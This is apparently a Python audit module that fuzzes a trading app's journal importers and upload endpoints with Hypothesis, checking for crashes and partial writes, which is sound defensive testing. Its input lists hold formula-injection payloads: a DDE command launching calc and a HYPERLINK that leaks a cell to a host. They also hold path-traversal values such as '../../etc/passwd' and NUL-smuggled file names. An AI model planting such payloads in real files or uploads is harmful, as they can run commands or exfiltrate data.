"""Hypothesis over every importer and upload route.

Inputs: random bytes, and the tests' fixture files (and ../shared/data's small real exports
when present) mutated: cut short, bytes flipped, byte-order marks (UTF-8, UTF-16 followed by
invalid UTF-16), NULs, huge fields, formula text, lines dropped or repeated, junk spliced in.

Targets: ``journal.importers.import_file`` and the market readers a dataset upload uses
(``services.runs.read_upload``), called directly (an exception that is not a typed user error
is a crash: it would be a 5xx); and POST /api/journal/imports, /api/datasets and /api/backtests
with a file, through a TestClient of the real app on SQLite. After each refused upload the
database's rows (every table but limits, audit log and sessions) and the data directory's files
must be as before: any difference is a partial write.
"""

from __future__ import annotations

import logging
import tempfile
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from audits.report import Section
from audits.writes import Counter as RowCounter
from audits.writes import partial_writes
from tradeloop.core.errors import UserError

GOAL_INPUTS = 10_000
# share of the inputs per target (direct calls are cheap; routes run the whole app)
SHARES = {
    "import_file": 0.33,
    "read_upload": 0.25,
    "POST /api/journal/imports": 0.2,
    "POST /api/datasets": 0.12,
    "POST /api/backtests": 0.1,
}
FORMULAS = [
    b"=CMD|' /C CALC'!A0",
    b'=HYPERLINK("http://example.com/?leak="&A1,"click")',
    b"+1+1",
    b"-2+3",
    b"@SUM(1+1)*cmd|' /C calc'!A0",
    b"\t=1+1",
]
BOMS = [b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff"]
HUGE = [5_000, 70_000, 700_000, 3_000_000]  # bytes: past pandas' field size, past the limits
ZONES = ["UTC", "Europe/Athens", "America/New_York", "Asia/Jakarta", "", "Not/AZone",
         "A" * 300, "../../etc/passwd", "UTC\x00", "+07:00"]  # fmt: skip
NAMES = {
    "journal": ["orders.csv", "report.html", "report.xlsx", "orders.txt", "../../x.csv",
                "=HYPERLINK(1).csv", f"{'a' * 300}.csv", "nul\x00.csv", "ÜñíçødÉ.htm"],
    "bars": ["EURUSD_H1.csv", "BTCUSD.parquet", "x.txt", "../../EURUSD.csv", "=1+1.csv",
             f"{'b' * 300}.csv", "EUR\x00USD.csv"],
}  # fmt: skip


def fixtures(shared: Path | None = None) -> dict[str, list[tuple[str, bytes]]]:
    """The real files to mutate, by kind (``journal``, ``bars``): the tests' fixtures, and the
    small real files of ``shared`` (../shared/data) when it exists."""
    from tests.api.test_backtests import csv_bytes
    from tests.journal import metatrader_fixtures as mt
    from tests.journal import test_csv_formats as formats
    from tests.journal.helpers import export, fill, stop

    from tradeloop.journal.synthetic import synthetic_export
    from tradeloop.market.readers import write_parquet
    from tradeloop.market.synthetic import random_walk_bars

    journal = [
        ("mt5_en.html", mt.mt5_html("en").encode()),
        ("mt5_en.xlsx", mt.mt5_xlsx("en")),
        ("deals.html", mt.deals_only_html().encode()),
        ("tester.html", mt.deals_only_html(tester=True).encode()),
        ("mt4.htm", mt.mt4_html().encode()),
        ("trade_account.html", mt.trade_account_html().encode()),
        ("orders32.csv", formats.ORDERS_32.encode()),
        ("fills.csv", formats.FILLS.encode()),
        ("performance.csv", formats.PERFORMANCE.encode()),
        ("ninjatrader.csv", formats.NINJATRADER.encode()),
        ("tradezero.csv", formats.TRADEZERO.encode()),
        ("ibkr.csv", formats.IBKR.encode()),
        (
            "tradovate.csv",
            export(
                fill(1, "09:30:00", "Buy", 2, 100.0),
                stop(2, "09:30:01", "Sell", 95.0),
                fill(3, "10:00:00", "Sell", 2, 104.5),
            ),
        ),
        ("synthetic.csv", synthetic_export(12, seed=3)),
    ]
    bars = [
        ("EURUSD_H1.csv", csv_bytes(200, seed=4)),
        ("GBPUSD_H1.parquet", write_parquet(random_walk_bars(150, seed=5))),
    ]
    if shared is not None and shared.is_dir():
        for path in sorted((shared / "real").glob("*/*")) + sorted(shared.glob("journal/*")):
            if path.is_file() and path.stat().st_size <= 60_000 and path.parent.name != "ohlc":
                journal.append((path.name, path.read_bytes()))
        for path in sorted(shared.glob("market/*.csv")) + sorted(shared.glob("real/ohlc/*")):
            with path.open("rb") as handle:  # the first 300 lines of each bar file
                bars.append((path.name, b"".join(handle.readline() for _ in range(300))))
    return {"journal": journal, "bars": bars}


# --- mutations: each takes the draw function and the bytes, and returns new bytes ---------


def _cut(draw: Any, data: bytes) -> bytes:
    return data[: draw(st.integers(0, len(data)))]


def _flip(draw: Any, data: bytes) -> bytes:
    if not data:
        return data
    buffer = bytearray(data)
    for _ in range(draw(st.integers(1, 8))):
        buffer[draw(st.integers(0, len(buffer) - 1))] ^= draw(st.integers(1, 255))
    return bytes(buffer)


def _bom(draw: Any, data: bytes) -> bytes:
    return draw(st.sampled_from(BOMS)) + data


def _utf16(draw: Any, data: bytes) -> bytes:
    """As UTF-16 with its mark, often with an invalid sequence (a lone surrogate, a cut
    character) or plain UTF-8 bytes after the mark."""
    text = data.decode("utf-8", "replace")
    encoded = text.encode(draw(st.sampled_from(["utf-16", "utf-16-le", "utf-16-be"])))
    if encoded[:2] not in (b"\xff\xfe", b"\xfe\xff"):
        encoded = (b"\xff\xfe" if draw(st.booleans()) else b"\xfe\xff") + encoded
    spoil = draw(st.sampled_from(["none", "surrogate", "odd", "utf8"]))
    at = draw(st.integers(2, max(2, len(encoded))))
    if spoil == "surrogate":
        encoded = encoded[:at] + draw(st.sampled_from([b"\x00\xd8", b"\xd8\x00", b"\x00\xdc"]))
        encoded += encoded[at:]
    elif spoil == "odd":
        encoded = encoded[:at] + b"\x00"
    elif spoil == "utf8":
        encoded = encoded[:2] + data
    return encoded


def _nul(draw: Any, data: bytes) -> bytes:
    if draw(st.booleans()):
        return data.replace(b",", b"\x00")
    at = draw(st.integers(0, len(data)))
    return data[:at] + b"\x00" * draw(st.integers(1, 4)) + data[at:]


def _huge(draw: Any, data: bytes) -> bytes:
    at = draw(st.integers(0, len(data)))
    size = draw(st.sampled_from(HUGE))
    return data[:at] + draw(st.sampled_from([b"A", b"9", b'"', b"\n,"])) * size + data[at:]


def _formula(draw: Any, data: bytes) -> bytes:
    cells = data.split(b",")
    if len(cells) < 2:
        return draw(st.sampled_from(FORMULAS)) + data
    for _ in range(draw(st.integers(1, 4))):
        cells[draw(st.integers(0, len(cells) - 1))] = draw(st.sampled_from(FORMULAS))
    return b",".join(cells)


def _lines(draw: Any, data: bytes) -> bytes:
    lines = data.split(b"\n")
    if len(lines) < 2:
        return data
    at = draw(st.integers(0, len(lines) - 1))
    action = draw(st.sampled_from(["drop", "repeat", "header-only", "swap"]))
    if action == "drop":
        del lines[at]
    elif action == "repeat":
        lines[at:at] = [lines[at]] * draw(st.integers(1, 50))
    elif action == "header-only":
        lines = lines[:1]
    else:
        lines[0], lines[at] = lines[at], lines[0]
    return b"\n".join(lines)


def _junk(draw: Any, data: bytes) -> bytes:
    at = draw(st.integers(0, len(data)))
    return data[:at] + draw(st.binary(min_size=1, max_size=64)) + data[at:]


MUTATIONS: list[Callable[[Any, bytes], bytes]] = [
    _cut, _flip, _bom, _utf16, _nul, _huge, _formula, _lines, _junk,
]  # fmt: skip


@st.composite
def file_bytes(draw: Any, files: list[tuple[str, bytes]]) -> tuple[str, bytes, str]:
    """(fixture name, bytes, how they were made): random bytes, or a fixture mutated 1-3
    times."""
    if draw(st.integers(0, 9)) == 0:
        return "random", draw(st.binary(max_size=2048)), "random"
    name, data = draw(st.sampled_from(files))
    done = []
    for mutation in draw(st.lists(st.sampled_from(MUTATIONS), min_size=1, max_size=3)):
        data = mutation(draw, data)
        done.append(mutation.__name__.strip("_"))
    return name, data, "+".join(done)


@dataclass
class Tally:
    """What one target saw."""

    tried: int = 0
    errors: list[str] = field(default_factory=list)  # 5xx or crashes, with their input
    partial: list[str] = field(default_factory=list)
    statuses: Counter[Any] = field(default_factory=Counter)


def _describe(name: str, data: bytes, how: str, extra: str = "") -> str:
    head = data[:80]
    return f"{how} of {name} ({len(data):,} bytes, starts {head!r}){extra}"


def _fuzz(strategy: Any, check: Callable[..., None], count: int) -> None:
    @settings(
        max_examples=count, deadline=None, database=None, derandomize=True,
        suppress_health_check=list(HealthCheck), phases=[Phase.explicit, Phase.generate],
    )  # fmt: skip
    @given(strategy)
    def run(drawn: Any) -> None:
        check(*drawn)

    run()


def _direct(target: str, call: Callable[..., Any], tally: Tally) -> Callable[..., None]:
    """A check that calls ``call`` and counts any exception other than a user error."""

    def check(file: tuple[str, bytes, str], *options: Any) -> None:
        name, data, how = file
        tally.tried += 1
        try:
            call(data, *options)
            tally.statuses["read"] += 1
        except UserError:
            tally.statuses["refused"] += 1
        except Exception as exc:
            tally.statuses["crash"] += 1
            tally.errors.append(
                f"{target}: {type(exc).__name__}: {str(exc)[:160]} ← "
                + _describe(name, data, how, f", options {options!r}")
            )

    return check


class Uploads:
    """The real app on SQLite in a TestClient, one signed-in user, and the row counter."""

    def __init__(self, folder: Path) -> None:
        from sqlalchemy import create_engine

        from tradeloop.app import create_app
        from tradeloop.config import Settings
        from tradeloop.store import migrate
        from tradeloop.store.db import make_engine

        self.data = folder / "data"
        limits = {
            "limit_uploads_per_hour": 100_000,
            "limit_backtests_per_hour": 100_000,
            "limit_registrations_per_hour": 100_000,
        }
        settings_ = Settings(data_dir=self.data, **limits)  # type: ignore[arg-type]
        engine = make_engine(settings_.effective_database_url)
        migrate.upgrade(engine)
        engine.dispose()
        self.client = TestClient(create_app(settings_), raise_server_exceptions=False)
        self.client.__enter__()
        email, password = "inputs@example.com", "audit password 1"
        self.client.post(
            "/api/auth/register", json={"name": "In", "email": email, "password": password}
        )
        token = self.client.post("/api/auth/token", data={"username": email, "password": password})
        self.headers = {"Authorization": f"Bearer {token.json()['access_token']}"}
        self.counter = RowCounter(create_engine(settings_.effective_database_url), self.data)
        self.last = self.counter.snapshot()

    def close(self) -> None:
        """Stop the app (its worker processes) and the counter's engine."""
        self.client.__exit__(None, None, None)
        self.counter.engine.dispose()

    def check(self, target: str, tally: Tally) -> Callable[..., None]:
        """A check that posts the file to ``target`` and judges the answer."""
        path = target.split(" ", 1)[1]

        def check(file: tuple[str, bytes, str], name: str, form: dict[str, str]) -> None:
            fixture, data, how = file
            tally.tried += 1
            answer = self.client.post(
                path, headers=self.headers, data=form, files={"file": (name, data)}
            )
            tally.statuses[answer.status_code] += 1
            now = self.counter.snapshot()
            described = _describe(fixture, data, how, f" as {name!r}, form {form!r}")
            if answer.status_code >= 500:
                tally.errors.append(f"{target} → {answer.status_code} ← {described}")
            if answer.status_code >= 400:
                changes = partial_writes(self.last, now)
                if changes:
                    tally.partial.append(
                        f"{target} → {answer.status_code}: {'; '.join(changes)} ← {described}"
                    )
            self.last = now

        return check


def run(goal: int = GOAL_INPUTS) -> list[Section]:
    """The figures."""
    from tests.conftest import SHARED_DATA

    from tradeloop.journal.importers import FORMATS, import_file
    from tradeloop.services.runs import read_upload

    section = Section("inputs: hypothesis over importers and upload routes")
    started = time.monotonic()
    files = fixtures(SHARED_DATA)
    counts = {target: max(1, round(goal * share)) for target, share in SHARES.items()}
    tallies = {target: Tally() for target in SHARES}
    journal = file_bytes(files["journal"])
    bars = file_bytes(files["bars"])
    orders = st.sampled_from(["auto", "dmy", "mdy", "ymd", ""])
    formats = st.sampled_from([*FORMATS, "nonsense"])
    zones = st.sampled_from(ZONES)
    currencies = st.sampled_from(["", "USD", "EUR", "usd", "XXXX", "€"])
    _fuzz(
        st.tuples(journal, formats, zones, orders, currencies),
        _direct("import_file", import_file, tallies["import_file"]),
        counts["import_file"],
    )
    _fuzz(
        st.tuples(bars, zones, st.booleans(), orders),
        _direct("read_upload", read_upload, tallies["read_upload"]),
        counts["read_upload"],
    )
    logging.disable(logging.CRITICAL)  # the app's error lines: the section lists its 5xx itself
    with tempfile.TemporaryDirectory(prefix="audit-inputs-") as folder:
        uploads = Uploads(Path(folder))
        try:
            forms = {
                "POST /api/journal/imports": (
                    journal, NAMES["journal"],
                    st.fixed_dictionaries({}, optional={
                        "format": formats, "tz": zones, "date_order": orders,
                        "currency": currencies,
                    }),
                ),
                "POST /api/datasets": (
                    bars, NAMES["bars"],
                    st.fixed_dictionaries({}, optional={
                        "symbol": st.sampled_from(["EURUSD", "", "X" * 40, "BTC\x00"]),
                        "tz": zones, "date_order": orders,
                        "keep_dominant_interval": st.sampled_from(["true", "false", "2"]),
                    }),
                ),
                "POST /api/backtests": (
                    bars, NAMES["bars"],
                    st.fixed_dictionaries({"strategy": st.just("ma_crossover")}, optional={
                        "symbol": st.sampled_from(["EURUSD", "XAUUSD", "", "=1+1"]),
                        "settings": st.sampled_from(
                            ['{"units": 1}', "{}", "not json", '{"initial_cash": 1e-300}']
                        ),
                    }),
                ),
            }  # fmt: skip
            for target, (made, names, form) in forms.items():
                _fuzz(
                    st.tuples(made, st.sampled_from(names), form),
                    uploads.check(target, tallies[target]),
                    counts[target],
                )
        finally:
            uploads.close()
            logging.disable(logging.NOTSET)
    tried = sum(t.tried for t in tallies.values())
    errors = [error for t in tallies.values() for error in t.errors]
    partial = [change for t in tallies.values() for change in t.partial]
    section.at_least("inputs tried", tried, goal)
    section.at_most("5xx answers and importer crashes", len(errors))
    section.at_most("partial writes after refused uploads", len(partial))
    for target, tally in tallies.items():
        shown = ", ".join(f"{k}: {v:,}" for k, v in sorted(tally.statuses.items(), key=str))
        section.add(f"  {target}", f"{tally.tried:,} ({shown})")
    section.add("seconds", f"{time.monotonic() - started:,.0f}")
    section.notes.append(
        f"fixtures: {len(files['journal'])} journal files, {len(files['bars'])} bar files "
        "(tests/ fixtures, and ../shared/data's small real files when present); hypothesis "
        "derandomized, no example database"
    )
    section.notes += [*errors[:30], *partial[:30]]
    return [section]
